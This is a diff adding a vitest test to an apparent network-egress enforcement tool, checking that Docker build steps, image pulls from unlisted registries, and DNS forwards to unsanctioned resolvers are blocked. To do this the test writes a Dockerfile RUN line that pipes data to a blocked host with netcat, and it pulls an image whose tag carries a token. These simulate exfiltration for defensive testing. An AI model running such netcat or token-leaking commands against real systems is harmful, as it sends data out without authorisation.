@@ -8,7 +8,7 @@
 // Enforce: the job's policy judges the containers (direct IP, names, Docker's embedded DNS on a
 // user-defined network, `docker build` RUN lines, --network host) and the daemon's own egress
 // (image pulls, the embedded resolver's forwards).
-import { writeFileSync } from "node:fs";
+import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { beforeAll, expect, it } from "vitest";
 import { agentRun, expectRunOk } from "../support/kernel/agent.js";
@@ -21,7 +21,6 @@ import {
 } from "../support/kernel/docker.js";
 import { tempDir } from "../support/kernel/env.js";
 import { byKind, type ConnectEv, type Ev } from "../support/kernel/log.js";
-import { readFileSync } from "node:fs";
 import { startDns, startServers } from "../support/kernel/servers.js";
 import { describeKernel } from "../support/kernel/suite.js";
 
@@ -172,5 +171,74 @@ describeKernel("containers with a real runtime (docker)", () => {
       .find((e) => e.comm === "dockerd" && e.addr === "192.0.2.53" && e.port === 53);
     expect(fwd?.verdict).toBe("allow");
     expect(fwd?.rule).toBe("sanctioned-resolver");
+  }, 120_000);
+  it("enforce: a docker build RUN line's egress, an image pull from a registry the policy does not name, and the embedded resolver forwarding to an unsanctioned server are blocked; a named registry is reached", async () => {
+    const dir = tempDir("ctbuild");
+    const out = join(dir, "out");
+    const ctx = join(dir, "ctx");
+    mkdirSync(ctx);
+    writeFileSync(
+      join(ctx, "Dockerfile"),
+      `FROM ${IMAGE}\nRUN echo x | nc -w2 ${BLOCKED} 80 && echo RUN-CONNECTED || echo RUN-BLOCKED\n`,
+    );
+    const policy = `allow-cidr ${ALLOWED}/32:5000\ndns-resolver 192.0.2.53\n`;
+    const r = await agentRun({
+      args: ["--mode", "enforce", "--config", config(dir, policy)],
+      env: { ...process.env, DPNDNCY_STEP: STEP, DOCKER_BUILDKIT: "0" },
+      cmd: script(
+        dir,
+        [
+          `exec > ${out} 2>&1`,
+          `echo "== build"`,
+          `$D build --no-cache -t dpkt-built:1 ${ctx}`,
+          `echo "== pull-evil"`,
+          `$D pull ${BLOCKED}:5000/x:secret-token-123`,
+          `echo "== pull-named"`,
+          `$D pull ${ALLOWED}:5000/x:ok`,
+          `echo "== resolver"`,
+          `$D network create --subnet 203.0.113.0/24 dpkt-net2 >/dev/null`,
+          `$D run --rm --network dpkt-net2 --dns 192.0.2.99 ${IMAGE} nslookup -timeout=2 allowed.test`,
+          `$D network rm dpkt-net2 >/dev/null`,
+          `$D rmi dpkt-built:1 >/dev/null`,
+          `echo "== end"`,
+        ].join("\n"),
+      ),
+    });
+    expectRunOk(r);
+    const text = readFileSync(out, "utf8");
+    const part = (name: string): string => text.split(`== ${name}\n`)[1]?.split("\n== ")[0] ?? "";
+    expect(part("build"), text).toMatch(/Operation not permitted/);
+    expect(part("build"), text).toMatch(/^RUN-BLOCKED$/m);
+    expect(part("build")).not.toMatch(/^RUN-CONNECTED$/m);
+
+    const conns = byKind.connect(r.log.events);
+    // the RUN line ran in a build container, attributed to the step of `docker build`
+    const cli = byKind.exec(r.workload).find((e) => e.filename === DOCKER_CLI && e.argv[3] === "build");
+    const run = conns.find((e) => e.addr === BLOCKED && e.port === 80);
+    expect(run?.verdict, JSON.stringify(run)).toBe("deny");
+    expect(ct(run as Ev)?.runtime).toBe("docker");
+    expect(ct(run as Ev)?.requested_by).toBe(cli?.pid);
+    expect(run?.step).toBe(STEP);
+    // the daemon's pull: judged by the job's policy (the tag never leaves the host)
+    const evil = conns.filter((e) => e.addr === BLOCKED && e.port === 5000);
+    expect(evil.length, text).toBeGreaterThanOrEqual(1);
+    for (const e of evil) {
+      expect(e.comm).toBe("dockerd");
+      expect(e.verdict).toBe("deny");
+      expect(e.rule).toBe("default-deny");
+    }
+    const named = conns.find((e) => e.addr === ALLOWED && e.port === 5000);
+    expect(named?.comm).toBe("dockerd");
+    expect(named?.verdict).toBe("allow");
+    expect(named?.rule).toBe(`allow-cidr ${ALLOWED}/32:5000`);
+    // the embedded resolver may not forward to a resolver the policy does not sanction
+    const fwd = conns.filter((e) => e.addr === "192.0.2.99" && e.port === 53);
+    expect(fwd.length, text).toBeGreaterThanOrEqual(1);
+    for (const e of fwd) {
+      expect(e.comm).toBe("dockerd");
+      expect(e.verdict).toBe("deny");
+      expect(e.rule).toBe("dns-resolver");
+    }
+    expect(part("resolver"), text).not.toMatch(/Address: 192\.0\.2\.10/);
   }, 120_000);
 });
